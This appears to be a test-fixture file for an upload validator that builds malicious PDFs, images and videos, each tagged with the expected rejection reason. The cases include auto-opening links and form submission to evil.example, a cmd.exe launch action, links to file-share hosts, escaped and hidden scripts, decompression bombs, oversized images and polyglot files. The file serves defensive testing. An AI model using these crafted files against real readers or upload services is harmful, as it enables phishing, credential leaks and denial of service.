    [
      "a link of no scheme that leads to a share",
      buildOnePagePdf({ page: "/Annots [<< /Subtype /Link /A << /S /URI /URI (//evil/share) >> >>]" }),
      "pdfScript",
    ],
    [
      "a link whose scheme is written in two bytes",
      buildOnePagePdf({
        page: "/Annots [<< /Subtype /Link /A << /S /URI /URI <FEFF00660069006C0065003A002F002F0061> >> >>]",
      }),
      "pdfScript",
    ],
    [
      "a base of its links on a share",
      buildOnePagePdf({ catalogue: "/URI << /Base (file://evil/share/) >>" }),
      "pdfScript",
    ],
    [
      "a script with an escaped name",
      buildOnePagePdf({ catalogue: buildOpenAction("/S /J#61vaScript /#4AS (app.alert\\(1\\))") }),
      "pdfScript",
    ],
    [
      "a script in a stream of objects",
      buildOnePagePdf({ more: [buildObjectStream("<< /S /JavaScript /JS (app.alert\\(1\\)) >>")] }),
      "pdfScript",
    ],
    [
      "a script whose kind stands elsewhere",
      buildOnePagePdf({ catalogue: buildOpenAction("/S 5 0 R"), more: ["/JavaScript"] }),
      "pdfScript",
    ],
    ["a script by its author's library", await scriptedPdf.save(), "pdfScript"],
    [
      "an address that opens by itself",
      buildOnePagePdf({ catalogue: buildOpenAction("/S /URI /URI (https://evil.example)") }),
      "pdfScript",
    ],
    [
      "an address that opens by itself, told elsewhere",
      buildOnePagePdf({
        catalogue: "/OpenAction 5 0 R",
        more: ["<< /S /URI /URI (https://evil.example) >>"],
      }),
      "pdfScript",
    ],
    [
      "an address that opens by itself, told elsewhere before an innocent second version",
      addDefinition(pdfWithAction(openedAddress), `5 0 obj\n${openedPlace}\nendobj\n`),
      "pdfScript",
    ],
    [
      "an address that opens by itself, told elsewhere after an innocent first version",
      addDefinition(pdfWithAction(openedPlace), `5 0 obj\n${openedAddress}\nendobj\n`),
      "pdfScript",
    ],
    [
      "an address that opens by itself, in another generation of its object",
      addDefinition(pdfWithAction(openedPlace), `5 1 obj\n${openedAddress}\nendobj\n`),
      "pdfScript",
    ],
    [
      "an action on opening that is told nowhere",
      buildOnePagePdf({ catalogue: "/OpenAction 5 0 R" }),
      "pdfScript",
    ],
    [
      "an address that opens after a place",
      buildOnePagePdf({
        catalogue:
          "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >>",
      }),
      "pdfScript",
    ],
    [
      "an address that opens with the document's end",
      buildOnePagePdf({ catalogue: "/AA << /WC << /S /URI /URI (https://evil.example) >> >>" }),
      "pdfScript",
    ],
    [
      "a script of the page",
      buildOnePagePdf({ page: "/AA << /O << /S /JavaScript /JS 5 0 R >> >>", more: ["(x)"] }),
      "pdfScript",
    ],
    [
      "a program to launch",
      buildOnePagePdf({ catalogue: buildOpenAction("/S /Launch /F (cmd.exe)") }),
      "pdfScript",
    ],
    [
      "a form that is sent elsewhere",
      buildOnePagePdf({ catalogue: buildOpenAction("/S /SubmitForm /F (https://evil.example)") }),
      "pdfScript",
    ],
    [
      "data that is imported",
      buildOnePagePdf({ catalogue: buildOpenAction("/S /ImportData /F (a.fdf)") }),
      "pdfScript",
    ],
    [
      "a file elsewhere",
      buildOnePagePdf({ catalogue: buildOpenAction("/S /GoToR /F (\\\\\\\\evil\\\\share)") }),
      "pdfScript",
    ],
    [
      "a link that runs",
      buildOnePagePdf({
        page: "/Annots [<< /Subtype /Link /A << /S /URI /URI (java\\163cript:alert\\(1\\)) >> >>]",
      }),
      "pdfScript",
    ],
    ["rich media", buildOnePagePdf({ page: "/Annots [<< /Subtype /RichMedia >>]" }), "pdfScript"],
    ["a film", buildOnePagePdf({ page: "/Annots [<< /Subtype /Movie >>]" }), "pdfScript"],
    [
      "a form of XFA",
      buildOnePagePdf({ catalogue: "/AcroForm << /XFA 5 0 R >>", more: ["(x)"] }),
      "pdfScript",
    ],
    ["an attachment", await attachmentPdf.save({ useObjectStreams: false }), "pdfAttachment"],
    [
      "an attachment in a stream of objects",
      await attachmentPdf.save({ useObjectStreams: true }),
      "pdfAttachment",
    ],
    [
      "an attachment on a page",
      buildOnePagePdf({ page: "/Annots [<< /Subtype /FileAttachment >>]" }),
      "pdfAttachment",
    ],
    ["encrypted", await encryptedPdf.save(), "filePassword"],
    [
      "encrypted, as the trailer says",
      buildOnePagePdf({ trailer: "/Encrypt << /Filter /Standard >>" }),
      "filePassword",
    ],
    ["cut off", validPdf.subarray(0, validPdf.length - 60), "fileBroken", "fileMixed"],
    ["without its head", validPdf.subarray(20), "fileType"],
    ["garbage", Buffer.from("%PDF-1.4 garbage"), "fileBroken"],
    ["garbage that ends well", Buffer.from("%PDF-1.4\ngarbage\n%%EOF\n"), "fileBroken"],
    [
      "no pages",
      buildPdfFile(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"]),
      "fileBroken",
    ],
    [
      "a page tree that never ends",
      buildPdfFile(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 9 >>"]),
      "fileBroken",
    ],
    [
      "thousands of pages",
      buildPdfFile([
        "<< /Type /Catalog /Pages 2 0 R >>",
        `<< /Type /Pages /Kids [${Array.from({ length: 600 }, (_, n) => `${n + 3} 0 R`).join(" ")}] /Count 600 >>`,
        ...Array.from({ length: 600 }, () => "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"),
      ]),
      "pdfPages",
    ],
    [
      "hundreds of pages before a second page tree of one",
      addDefinition(
        buildPdfFile([
          "<< /Type /Catalog /Pages 2 0 R >>",
          `<< /Type /Pages /Kids [${"3 0 R ".repeat(501)}] /Count 501 >>`,
          "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        ]),
        "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
      ),
      "pdfPages",
    ],
    ["brackets without end", Buffer.from(`%PDF-1.7\n1 0 obj\n${"[".repeat(100_000)}\n%%EOF\n`), "fileBroken"],
    [
      "a bomb of a stream",
      buildOnePagePdf({ more: [buildFlateStream("", Buffer.alloc(270 * 1024 * 1024))] }),
      "fileUnpacked",
    ],
    [
      "a bomb in a bomb",
      buildOnePagePdf({
        more: [
          Buffer.from(
            buildFlateStream("", deflateSync(Buffer.alloc(1 << 20)))
              .toString("latin1")
              .replace("/FlateDecode", "[/FlateDecode /FlateDecode]"),
            "latin1",
          ),
        ],
      }),
      "fileUnpacked",
    ],
    [
      "a bomb of objects",
      buildOnePagePdf({
        more: [
          buildFlateStream(
            "/Type /ObjStm /N 1 /First 4",
            Buffer.concat([Buffer.from("9 0 "), Buffer.alloc(65 * 1024 * 1024, 32)]),
          ),
        ],
      }),
      "fileUnpacked",
    ],
    [
      "a picture larger than any paper",
      buildOnePagePdf({
        more: [buildFlateStream("/Type /XObject /Subtype /Image /Width 60000 /Height 60000", "x")],
      }),
      "imagePixels",
    ],
    ["a cross-reference into a stream", misdirectedPdf, "fileBroken"],
    [
      "something before it",
      Buffer.concat([Buffer.from("<script>alert(1)</script>\n"), validPdf]),
      "fileMixed",
      "fileType",
    ],
    ["something after it", Buffer.concat([validPdf, Buffer.from("<script>alert(1)</script>")]), "fileMixed"],
    ["an archive behind it", Buffer.concat([validPdf, buildZip({ "a.class": "x" })]), "fileMixed"],
    [
      "an archive inside it",
      buildOnePagePdf({ trailer: `/X (${"x"})`, more: [] }).length
        ? Buffer.concat([validPdf.subarray(0, -6), buildZip({ "a.class": "x" }), Buffer.from("\n%%EOF\n")])
        : validPdf,
      "fileMixed",
      "fileBroken",
    ],
  ];
  return cases.map(([name, bytes, ...reasons]) => ({ name, bytes, reasons }));
};

const buildPngChunk = (kind: string, data: Uint8Array): Buffer => {
  const body = Buffer.concat([Buffer.from(kind), data]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(data.length);
  frame.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
};
/** A PNG that says how large it is, and holds next to nothing. */
const buildHugePng = (width: number, height: number): Buffer => {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width);
  header.writeUInt32BE(height, 4);
  header.set([1, 0], 8);
  return Buffer.concat([
    Buffer.from("89504e470d0a1a0a", "hex"),
    buildPngChunk("IHDR", header),
    buildPngChunk("IDAT", deflateSync(Buffer.alloc(100_000))),
    buildPngChunk("IEND", Buffer.alloc(0)),
  ]);
};
/** A picture of a size that its purpose asks for. */
export const generatePicture = (type: string, width = 300, height = 300): Promise<Buffer> => {
  const image = sharp(randomBytes(width * height * 3), { raw: { width, height, channels: 3 } });
  return (type === "image/png" ? image.png() : image.jpeg()).toBuffer();
};

/** Pictures that cannot be drawn at all; those that can are drawn anew, and tested for what is left of them. */
export const buildImageAttacks = async (type: string): Promise<MaliciousFile[]> => {
  const validImage = await generatePicture(type);
  const resizeJpegHeader = (width: number, height: number): Buffer => {
    const resizedImage = Buffer.from(validImage);
    const headerOffset = resizedImage.indexOf(Buffer.from("ffc00011", "hex"));
    resizedImage.writeUInt16BE(height, headerOffset + 5);
    resizedImage.writeUInt16BE(width, headerOffset + 7);
    return resizedImage;
  };
  const hugeImage = type === "image/png" ? buildHugePng(60_000, 60_000) : resizeJpegHeader(60_000, 60_000);
  const longImage = type === "image/png" ? buildHugePng(1_000_000, 1) : resizeJpegHeader(65_000, 1);
  return [
    { name: "60,000 by 60,000 pixels", bytes: hugeImage, reasons: ["imagePixels", "imageSize"] },
    { name: "a line of a million pixels", bytes: longImage, reasons: ["imagePixels", "imageSize"] },
    { name: "cut off", bytes: validImage.subarray(0, validImage.length >> 1), reasons: ["fileBroken"] },
    { name: "a head alone", bytes: validImage.subarray(0, 60), reasons: ["fileBroken", "fileType"] },
    {
      name: "noise behind a head",
      bytes: Buffer.concat([validImage.subarray(0, 40), randomBytes(500)]),
      reasons: ["fileBroken", "fileType", "imageSize", "imagePixels"],
    },
    { name: "a page", bytes: Buffer.from("<html><script>alert(1)</script></html>"), reasons: ["fileType"] },
    {
      name: "a drawing that runs",
      bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      reasons: ["fileType"],
    },
    {
      name: "an animation",
      bytes: Buffer.from("474946383961010001000000002c00000000010001000002024401003b", "hex"),
      reasons: ["fileType"],
    },
  ];
};

const buildMp4Box = (kind: string, data: Uint8Array): Buffer => {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length + 8);
  head.write(kind, 4);
  return Buffer.concat([head, data]);
};
/** The frame of a film without a picture. */
export const buildVideo = (type: string): Buffer => {
  if (type === "video/x-msvideo") {
    const buildList = (name: string) => Buffer.from(`LIST\u0004\0\0\0${name}`);
    const body = Buffer.concat([Buffer.from("AVI "), buildList("hdrl"), buildList("movi")]);
    const head = Buffer.alloc(8);
    head.write("RIFF");
    head.writeUInt32LE(body.length, 4);
    return Buffer.concat([head, body]);
  }
  const brand = type === "video/quicktime" ? "qt  " : "isom";
  return Buffer.concat([
    buildMp4Box("ftyp", Buffer.from(`${brand}\0\0\0\0${brand}`)),
    buildMp4Box(
      "moov",
      Buffer.concat([buildMp4Box("mvhd", Buffer.alloc(16)), buildMp4Box("trak", Buffer.alloc(8))]),
    ),
    buildMp4Box("mdat", randomBytes(64)),
  ]);
};
/** Renames what holds the tracks or frames of a film, so that the frame stays and nothing can be played. */
const removeTracks = (video: Buffer): Buffer =>
  Buffer.from(video.toString("latin1").replace(/trak|movi/, "free"), "latin1");
export const buildVideoAttacks = (type: string): MaliciousFile[] => {
  const validVideo = buildVideo(type);
  return [
    {
      name: "an archive behind it",
      bytes: Buffer.concat([validVideo, buildZip({ "a.class": "x" })]),
      reasons: ["fileMixed", "fileBroken"],
    },
    {
      name: "a page behind it",
      bytes: Buffer.concat([validVideo, Buffer.from("<script>alert(1)</script>")]),
      reasons: ["fileMixed", "fileBroken"],
    },
    { name: "a film without a track", bytes: removeTracks(validVideo), reasons: ["fileBroken"] },
    { name: "a head alone", bytes: validVideo.subarray(0, 20), reasons: ["fileBroken", "fileType"] },
    { name: "a program", bytes: Buffer.from("MZ\x90\x00 this is a program"), reasons: ["fileType"] },
  ];
};

/** Attacks of a type that a purpose takes, made once. */
const attacksByType = new Map<string, Promise<MaliciousFile[]>>();
export const getAttacks = (type: string): Promise<MaliciousFile[]> => {
  const attacks = attacksByType.get(type) ?? makeAttacks(type);
  attacksByType.set(type, attacks);
  return attacks;
};
async function makeAttacks(type: string): Promise<MaliciousFile[]> {
  if (type === PDF) return buildPdfAttacks();
  if (type === XLSX || type === DOCX) return buildOfficeAttacks(type);
  if (type === XLS || type === DOC) return buildOldOfficeAttacks(type);
  return type.startsWith("image/") ? buildImageAttacks(type) : buildVideoAttacks(type);
}
